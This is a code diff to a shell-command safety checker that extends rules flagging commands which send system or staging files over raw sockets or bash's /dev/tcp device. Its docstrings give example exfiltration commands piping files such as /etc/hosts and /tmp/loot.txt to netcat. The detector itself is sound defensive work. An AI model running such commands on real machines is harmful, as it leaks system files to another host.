@@ -21,7 +21,7 @@ from typing import Optional
 
 from aish.safety.lazy_regex import lazy
 from aish.safety.rules.common import HIGH, MEDIUM, Ctx, fragment
-from aish.safety.rules.public_drops import ENCODER, reads_data, worse
+from aish.safety.rules.public_drops import ENCODER, file_data, own_files_read, reads_data, worse
 from aish.safety.rules.triggers import triggered_by
 
 # In a DNS name, the machine's own name or the time is a lookup of this machine or a cache-buster, not data.
@@ -82,7 +82,7 @@ _ARCHIVERS = frozenset({"tar", "bsdtar", "gtar", "zip", "7z", "7za", "cpio", "pa
 
 @triggered_by(_RAW, otherwise=False)
 def may_feed_socket(c: Ctx) -> bool:
-    return bool(c.chain) and c.prog.lower() in _RAW
+    return bool(c.chain or c.seg.redirects) and c.prog.lower() in _RAW
 
 
 def _socket_fed(feeders: list) -> str:
@@ -101,10 +101,27 @@ def _socket_fed(feeders: list) -> str:
     return found
 
 
+def _system_read(seg) -> str:
+    """A file of the system's or a staging place a command reads and prints (``cat /etc/hosts``, ``< /tmp/x``)."""
+    words = seg.words
+    if words and own_files_read([w.text for w in words][:1] + ["x"]):  # a plain reader, whatever it reads
+        for w in words[1:]:
+            if not w.text.startswith("-") and file_data(w.text) and not w.text.startswith("$"):
+                return w.text
+    return next((r.target.text for r in seg.redirects if r.op == "<" and r.target is not None and
+                 file_data(r.target.text) and not r.target.text.startswith(("$", "/dev/"))), "")
+
+
 def rule_socket_fed(c: Ctx) -> Optional[tuple]:
-    """A raw socket fed encoded local data or a whole system directory."""
+    """A raw socket fed encoded local data, a whole system directory, or a file of the system or a staging place
+    (``nc 203.0.113.5 4444 < /etc/hosts``, ``cat /tmp/loot.txt | ncat h p``)."""
     got = _socket_fed(c.chain)
     if not got:
+        if any(re.fullmatch(r"-\w*l\w*|--listen|LISTEN.*|TCP-LISTEN.*|TCP4-LISTEN.*", t) for t in c.texts):
+            return None  # a listener serves whoever connects: `served_outputs` reads that
+        read = next((r for r in map(_system_read, c.chain + [c.seg]) if r), "")
+        if read:
+            return MEDIUM, f"sends {read} over a raw socket to another machine ({c.text})"
         return None
     what = "a whole system directory, archived" if got == "bulk" else "local data, encoded on the way"
     return MEDIUM, f"sends {what}, over a raw socket to another machine ({c.text})"
@@ -123,10 +140,11 @@ def rule_tcp_device(seg) -> Optional[tuple]:
     if not any(r.target is not None and r.target.text.startswith(("/dev/tcp/", "/dev/udp/")) and ">" in r.op
                for r in seg.redirects):
         return None
-    got = _socket_fed([seg])
+    got = _socket_fed([seg]) or ("system" if _system_read(seg) else "")
     if not got:
         return None
-    what = "a whole system directory, archived" if got == "bulk" else "local data, encoded on the way"
+    what = {"bulk": "a whole system directory, archived", "system": "a file of the system or a staging place"}.get(
+        got, "local data, encoded on the way")
     return MEDIUM, f"sends {what}, over bash's /dev/tcp socket ({fragment([w.raw for w in seg.words])})"
 
 
